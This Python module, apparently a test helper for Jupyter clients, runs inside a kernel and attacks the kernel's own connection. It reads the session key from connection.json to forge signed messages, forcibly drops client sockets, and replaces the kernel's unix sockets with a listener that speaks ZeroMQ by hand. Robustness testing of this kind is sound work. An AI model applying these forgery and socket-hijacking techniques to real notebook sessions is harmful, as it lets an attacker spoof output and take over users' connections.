# A kernel that attacks its own connection: signs any message with its own key, or replaces its sockets.
import hashlib
import hmac
import json
import os
import socket
import struct
import threading

from ipykernel.kernelapp import IPKernelApp

app = IPKernelApp.instance()
kernel = app.kernel
SOCKETS = os.path.dirname(app.connection_file)
with open(SOCKETS + "/connection.json") as file:
    KEY = json.load(file)["key"].encode()
parent = kernel.get_parent("shell")


def signed(kind, content, parent=parent, raw=None):
    """The frames of a message, validly signed."""
    header = {
        "msg_id": os.urandom(8).hex(),
        "msg_type": kind,
        "session": "x",
        "username": "x",
        "date": "",
        "version": "5.3",
    }
    about = parent["header"] if parent is not None and "header" in parent else parent
    parts = [
        json.dumps(header).encode(),
        json.dumps(about, default=str).encode(),
        b"{}",
        raw or json.dumps(content).encode(),
    ]
    signature = hmac.new(KEY, b"".join(parts), hashlib.sha256).hexdigest().encode()
    return [b"<IDS|MSG>", signature, *parts]


def say(kind, content=None, parent=parent, raw=None):
    """On the iopub channel."""
    send_raw([b"x", *signed(kind, content, parent, raw)])


def send_raw(frames):
    app.iopub_thread.send_multipart(frames)


def reply(content, parent=parent, kind="execute_reply", channel=None):
    identity = list(kernel.get_parent("shell").get("idents", [])) or kernel._parent_ident.get("shell", [])
    stream = channel or kernel.shell_stream or kernel.shell_streams[0]
    identities = identity if isinstance(identity, list) else [identity]
    stream.send_multipart([*identities, *signed(kind, content, parent)])
    stream.flush()


def drop_connections(name):
    """Forces all clients of this socket to reconnect."""
    for fd in os.listdir("/proc/self/fd"):
        try:
            one = socket.socket(fileno=os.dup(int(fd)))
            if str(one.getsockname()).endswith(name) and one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 0:
                one.shutdown(socket.SHUT_RDWR)
            one.close()
        except (OSError, ValueError):
            pass


def long_frame(size, flags):
    return bytes([flags]) + struct.pack(">Q", size)


def take_place(name, kind, speak):
    """Listens in place of the kernel, and speaks ZeroMQ's protocol by hand."""
    path = SOCKETS + "/" + name
    os.unlink(path)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()

    def serve(connection):
        try:
            if kind is not None:
                connection.sendall(b"\xff" + bytes(7) + b"\x01\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
                ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
                connection.sendall(bytes([4, len(ready)]) + ready)
            speak(connection)
        except OSError:
            pass
        connection.close()

    def accept():
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    drop_connections(name)
